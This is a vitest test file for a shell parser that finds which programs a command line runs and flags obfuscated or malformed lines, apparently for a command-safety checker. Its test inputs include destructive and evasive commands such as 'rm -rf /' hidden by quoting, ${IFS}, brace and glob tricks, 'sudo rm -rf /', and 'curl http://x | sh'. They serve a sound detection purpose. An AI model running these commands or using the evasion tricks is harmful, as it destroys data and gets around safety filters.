import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../parsers/shell/index.js';

interface Case {
  line: string;
  /** Programs that must be found. */
  programs?: string[];
  /** Programs that must not be found (data, comments). */
  absent?: string[];
  /** Simple command texts that must be found. */
  commands?: string[];
  opaque?: boolean;
  unparsed?: boolean;
}

function check(c: Case): void {
  const a = analyzeShell(c.line);
  const programs = a.commands.map((x) => x.program);
  const texts = a.commands.map((x) => x.text);
  for (const p of c.programs ?? []) expect(programs, `${c.line}: program ${p}`).toContain(p);
  for (const p of c.absent ?? []) expect(programs, `${c.line}: no program ${p}`).not.toContain(p);
  for (const t of c.commands ?? []) expect(texts, `${c.line}: command ${t}`).toContain(t);
  expect(a.opaque, `${c.line}: opaque (${a.reasons.join('; ')})`).toBe(c.opaque ?? false);
  expect(a.unparsed, `${c.line}: unparsed (${a.reasons.join('; ')})`).toBe(c.unparsed ?? false);
}

function table(name: string, cases: Case[]): void {
  describe(name, () => {
    for (const c of cases) it(JSON.stringify(c.line), () => check(c));
  });
}

table('quoting games still name the program', [
  { line: "r'm' -rf /", programs: ['rm'], commands: ['rm -rf /'] },
  { line: '"r"m -rf /', programs: ['rm'], commands: ['rm -rf /'] },
  { line: '\\rm -rf /', programs: ['rm'], commands: ['rm -rf /'] },
  { line: "r''m x", programs: ['rm'] },
  { line: '"rm" x', programs: ['rm'] },
  { line: '/usr/bin/rm -rf /', programs: ['rm'], commands: ['/usr/bin/rm -rf /'] },
  { line: "$'\\x72m' x", programs: ['rm'] },
  { line: "$'r\\155' x", programs: ['rm'] },
  { line: '$"rm" x', programs: ['rm'] },
  { line: 'r\\\nm x', programs: ['rm'] },
  { line: '"/bin/rm" "-rf" \'/\'', programs: ['rm'], commands: ['/bin/rm -rf /'] },
]);

table('separators and operators', [
  { line: 'ls;rm x', programs: ['ls', 'rm'] },
  { line: ';rm x', programs: ['rm'], unparsed: false },
  { line: 'true&&rm x', programs: ['rm'] },
  { line: 'false||rm x', programs: ['rm'] },
  { line: 'ls|rm x', programs: ['rm'] },
  { line: 'ls|&rm x', programs: ['rm'] },
  { line: 'ls&rm x', programs: ['rm'] },
  { line: 'ls\nrm x', programs: ['ls', 'rm'] },
  { line: 'ls \\\n; rm x', programs: ['rm'] },
  { line: '(cd /; rm x)', programs: ['cd', 'rm'] },
  { line: '{ rm x; } > /dev/null', programs: ['rm'] },
  { line: 'echo a#b; rm x', programs: ['rm'] },
]);

table('command substitution and process substitution', [
  { line: '$(echo rm) x', programs: ['echo'], opaque: true },
  { line: '"$(echo rm)" x', opaque: true },
  { line: '`rm x`', programs: ['rm'], opaque: true },
  { line: 'echo `rm x`', programs: ['rm'] },
  { line: 'echo "$(rm x)"', programs: ['rm', 'echo'], commands: ['rm x'] },
  { line: 'echo "a `rm x` b"', programs: ['rm'] },
  { line: 'echo $(echo $(rm x))', programs: ['rm'] },
  { line: 'echo `echo \\`rm x\\``', programs: ['rm'] },
  { line: 'x=$(rm y)', programs: ['rm'] },
  { line: 'x=${y:-$(rm z)}', programs: ['rm'] },
  // The substitution's output is evaluated as arithmetic, where a subscript runs $(…): opaque too.
  { line: 'echo $((1 + $(rm x)))', programs: ['rm'], opaque: true },
  { line: 'cat <(rm x) >(ls)', programs: ['rm', 'ls', 'cat'] },
  { line: 'echo $(case x in a) rm x;; esac)', programs: ['rm'] },
  { line: 'echo "\\$(rm x)"', absent: ['rm'] },
  { line: 'echo \\$(rm x)', unparsed: true },
  { line: "echo '$(rm x)'", absent: ['rm'] },
  { line: 'echo "\\`rm x\\`"', absent: ['rm'] },
]);

table('nested shells and eval', [
  { line: 'sh -c "rm -rf /"', programs: ['sh', 'rm'], commands: ['rm -rf /'] },
  { line: "bash -c 'echo; rm x'", programs: ['echo', 'rm'] },
  { line: "bash -lc 'rm x'", programs: ['rm'] },
  { line: "bash -o errexit -c 'rm x'", programs: ['rm'] },
  { line: "zsh -c 'rm x'", programs: ['rm'] },
  { line: "dash -c 'rm x'", programs: ['rm'] },
  { line: "busybox sh -c 'rm x'", programs: ['busybox', 'sh', 'rm'] },
  { line: `sh -c "bash -c 'rm x'"`, programs: ['rm'] },
  { line: 'eval "rm x"', programs: ['rm'] },
  { line: 'eval rm x', programs: ['rm'] },
  { line: "eval 'a; rm x'", programs: ['rm'] },
  { line: 'sh -c "$CMD"', opaque: true },
  { line: 'eval "$x"', opaque: true },
  { line: "bash <<< 'rm x'", programs: ['rm'] },
  { line: "bash <<'EOF'\nrm x\nEOF", programs: ['rm'] },
  { line: 'sh <<EOF\nrm $x\nEOF', opaque: true },
  { line: 'cat <<EOF\n$(rm x)\nEOF', programs: ['rm'] },
  { line: "cat <<'EOF'\n$(rm x)\nEOF", absent: ['rm'] },
  { line: "trap 'rm x' EXIT", programs: ['rm'], opaque: true },
  { line: "alias ls='rm -rf /'", programs: ['rm'] },
  { line: 'bash', opaque: true },
  { line: 'curl http://x | sh', opaque: true },
  { line: 'bash < script.sh', opaque: true },
  { line: 'bash script.sh', programs: ['bash'], opaque: true },
  { line: 'source ./x.sh', opaque: true },
  { line: '. ./x.sh', opaque: true },
]);

table('wrappers add the wrapped command', [
  { line: 'sudo rm -rf /', programs: ['sudo', 'rm'], commands: ['sudo rm -rf /', 'rm -rf /'] },
  { line: 'sudo -u root rm x', programs: ['rm'] },
  { line: 'sudo -Eu root rm x', programs: ['rm'] },
  { line: 'sudo -uroot -- rm x', programs: ['rm'] },
  { line: "sudo sh -c 'rm x'", programs: ['rm'] },
  { line: 'sudo -i', opaque: true },
  { line: 'sudo $CMD', opaque: true },
  { line: "su -c 'rm x' root", programs: ['rm'] },
  { line: "su root -c 'rm x'", programs: ['rm'] },
  { line: 'su root', opaque: true },
  { line: 'doas -u root rm x', programs: ['rm'] },
  { line: 'env rm x', programs: ['env', 'rm'] },
  { line: 'env -i FOO=1 rm x', programs: ['rm'], commands: ['rm x'] },
  { line: 'env -u HOME rm x', programs: ['rm'] },
  { line: "env -S 'rm x'", programs: ['rm'] },
  { line: 'nice rm x', programs: ['rm'] },
  { line: 'nice -n 5 rm x', programs: ['rm'] },
  { line: 'nice -n5 rm x', programs: ['rm'] },
  { line: 'timeout 5 rm x', programs: ['rm'] },
  { line: 'timeout -s KILL 5s rm x', programs: ['rm'] },
  { line: 'nohup rm x', programs: ['rm'] },
  { line: 'setsid rm x', programs: ['rm'] },
  { line: 'stdbuf -oL rm x', programs: ['rm'] },
  { line: 'ionice -c 3 rm x', programs: ['rm'] },
  { line: 'chroot /mnt rm x', programs: ['rm'] },
  { line: 'flock /tmp/l rm x', programs: ['rm'] },
  { line: "flock /tmp/l -c 'rm x'", programs: ['rm'] },
  { line: "watch 'rm x'", programs: ['rm'] },
  { line: 'xargs rm', programs: ['xargs', 'rm'] },
  { line: 'ls | xargs -n1 -P4 rm -f', programs: ['rm'] },
  { line: 'xargs -I{} sh -c "rm {}"', opaque: true },
  { line: 'find . -exec rm {} \\;', programs: ['find', 'rm'], commands: ['rm {}'] },
  { line: "find . -name x -execdir rm -f {} + -exec ls ';'", programs: ['rm', 'ls'] },
  { line: 'find . -exec {} \\;', opaque: true },
  { line: 'command rm x', programs: ['rm'] },
  { line: 'command -v rm', absent: ['rm'] },
  { line: 'builtin eval "rm x"', programs: ['rm'] },
  { line: 'exec rm x', programs: ['rm'] },
  { line: 'exec -a foo rm x', programs: ['rm'] },
  { line: 'exec $SHELL', opaque: true },
  { line: 'exec 3>/tmp/x', programs: ['exec'] },
  { line: 'time rm x', programs: ['rm'] },
  { line: 'time -p rm x', programs: ['rm'], absent: ['-p'] },
  { line: '/usr/bin/time -f %e rm x', programs: ['rm'] },
  { line: '! rm x', programs: ['rm'] },
  { line: 'sudo env nice timeout 5 rm x', programs: ['rm'] },
]);

table('compound commands and functions', [
  { line: 'if rm x; then ls; elif cat; then :; else wc; fi', programs: ['rm', 'ls', 'cat', 'wc'], absent: ['if', 'then', 'fi'] },
  { line: 'for i in a b; do rm $i; done', programs: ['rm'], absent: ['for', 'do', 'done'] },
  { line: 'for i in $(rm x); do :; done', programs: ['rm'] },
  { line: 'for ((i=0; i<3; i++)); do rm x; done', programs: ['rm'] },
  { line: 'while true; do rm x; done', programs: ['true', 'rm'] },
  { line: 'until rm x; do sleep 1; done', programs: ['rm', 'sleep'] },
  { line: 'select x in a b; do rm x; done', programs: ['rm'] },
  { line: 'case $x in a|b) rm x;; (c) ls;& *) wc ;; esac', programs: ['rm', 'ls', 'wc'], absent: ['a', 'esac'] },
  { line: 'case x in\n  a) rm x\nesac', programs: ['rm'] },
  { line: 'f() { rm -rf /; }', programs: ['rm'], commands: ['rm -rf /'] },
  { line: 'f() ( rm x )', programs: ['rm'] },
  { line: 'function f { rm x; }; f', programs: ['rm', 'f'] },
  { line: 'function f() { rm x; }', programs: ['rm'] },
  { line: '[[ -f $(rm x) ]] && ls', programs: ['rm', 'ls'] },
  { line: '(( $(rm x) > 1 ))', programs: ['rm'], opaque: true },
  { line: 'echo if then fi done; rm x', programs: ['echo', 'rm'], commands: ['echo if then fi done'] },
]);

table('data, comments and variables', [
  { line: 'echo hi # ; rm x', absent: ['rm'] },
  { line: 'ls # comment\nrm x', programs: ['rm'] },
  { line: "echo 'rm -rf /'", absent: ['rm'], commands: ['echo rm -rf /'] },
  { line: 'echo "rm -rf /"', absent: ['rm'] },
  { line: 'grep -r "rm -rf" .', absent: ['rm'] },
  { line: 'a=rm; $a x', opaque: true },
  { line: '${a} x', opaque: true },
  { line: 'rm${IFS}-rf /', opaque: true },
  { line: 'FOO=bar rm x', programs: ['rm'], commands: ['rm x'] },
  { line: '"A=b" x', programs: ['A=b'] },
  { line: 'ls *.txt', programs: ['ls'], commands: ['ls *.txt'] },
  { line: '/bin/r? x', opaque: true },
  { line: '{rm,-rf,/}', opaque: true },
  { line: '/bin/[r]m x', opaque: true },
  { line: '[ -f x ] && rm y', programs: ['[', 'rm'] },
  { line: '/bin/r\\? x', programs: ['r?'] },
  { line: '"/bin/r*" x', programs: ['r*'] },
  { line: "'if' x", programs: ['if'] },
]);

table('redirections are kept, not run', [
  { line: 'ls 2>&1 >/dev/null', programs: ['ls'], absent: ['1', 'null'] },
  { line: 'ls &> out; ls &>> out', programs: ['ls'], absent: ['out'] },
  { line: 'cat < in >> out', absent: ['in', 'out'] },
  { line: 'cat <<< "hi"; rm x', programs: ['rm'] },
]);

table('unparsed lines fail closed', [
  { line: "echo 'abc", unparsed: true },
  { line: 'echo "abc', unparsed: true },
  { line: "echo $'abc", unparsed: true },
  { line: 'echo $(ls', unparsed: true },
  { line: 'echo $(ls; rm x', unparsed: true, programs: ['rm'] },
  { line: 'echo `ls', unparsed: true },
  { line: 'echo ${x', unparsed: true },
  { line: 'echo $((1+2)', unparsed: true },
  { line: '(ls', unparsed: true },
  { line: 'ls)', unparsed: true },
  { line: 'if true; then ls', unparsed: true },
  { line: 'for i in a; do rm x', unparsed: true, programs: ['rm'] },
  { line: 'case x in a) ls', unparsed: true },
  { line: 'cat <<EOF', unparsed: true },
  { line: 'ls >', unparsed: true },
  { line: 'fi', unparsed: true },
  { line: 'sh -c "echo \'x"', unparsed: true },
  { line: 'echo ' + '$('.repeat(40) + 'rm' + ')'.repeat(40), unparsed: true, opaque: true },
]);

describe('SimpleCommand fields', () => {
  it('splits assignments and redirections from argv', () => {
    const [c] = analyzeShell('A=1 B=2 /bin/ls -l > out 2>&1').commands;
    expect(c).toEqual({
      argv: ['/bin/ls', '-l'],
      assignments: ['A=1', 'B=2'],
      redirections: [{ op: '>', target: 'out' }, { op: '2>&', target: '1' }],
      text: '/bin/ls -l',
      program: 'ls',
      nested: false,
    });
  });

  it('marks commands from substitutions, -c scripts and wrappers as nested', () => {
    const a = analyzeShell('sudo rm x; echo $(id); sh -c "w"');
    const nested = Object.fromEntries(a.commands.map((c) => [c.text, c.nested]));
    expect(nested).toEqual({ 'sudo rm x': false, 'rm x': true, id: true, 'echo $(id)': false, 'sh -c w': false, w: true });
    expect(a.opaque || a.unparsed).toBe(false);
  });

  it('gives reasons for opaque and unparsed', () => {
    expect(analyzeShell('$x').reasons.join()).toMatch(/expansion/);
    expect(analyzeShell("echo 'x").reasons.join()).toMatch(/quote/);
  });

  it('an empty line has no commands', () => {
    expect(analyzeShell('')).toEqual({ commands: [], unparsed: false, opaque: false, reasons: [] });
    expect(analyzeShell('  # only a comment').commands).toEqual([]);
  });
});
